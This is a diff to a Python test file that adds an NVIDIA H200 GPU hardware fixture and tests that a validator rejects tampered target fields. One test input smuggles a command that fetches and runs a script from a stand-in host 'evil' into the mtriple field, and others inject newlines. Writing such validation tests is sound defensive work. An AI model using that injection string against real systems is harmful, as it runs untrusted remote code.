@@ -46,8 +46,29 @@ SPOILED: dict[str, Callable[[dict[str, Any]], object]] = {
 }
 
 
+GPU: dict[str, Any] = {
+    "hardware": {
+        "name": "NVIDIA H200", "system": "Linux", "machine": "x86_64", "cores": 132, "memory": 150109880320, "flags": ["avx2"],
+        "target": {
+            "kind": "cuda", "arch": "sm_90", "max_threads_per_block": 1024, "max_shared_memory_per_block": 49152,
+            "host": {"kind": "llvm", "mcpu": "emeraldrapids", "mtriple": "x86_64-linux-gnu", "num-cores": 16},
+        },
+    },
+    "peak": {"flops": 5e13, "bandwidth": 4e12},
+    "versions": {"apache-tvm": "0.27.0"},
+}  # fmt: skip
+
+
 def test_what_a_device_says_is_taken() -> None:
     assert _plausible(SAID)
+    assert _plausible(GPU)
+
+
+@pytest.mark.parametrize("spoiled", [{"mtriple": "x;curl evil|sh;-linux-gnu"}, {"mcpu": "a\nb"}, {"mattr": ["a\nb"]}])
+def test_what_no_gpus_processor_says_is_not(spoiled: dict[str, Any]) -> None:
+    said = copy.deepcopy(GPU)
+    said["hardware"]["target"]["host"].update(spoiled)
+    assert not _plausible(said)
 
 
 @pytest.mark.parametrize("name", SPOILED)
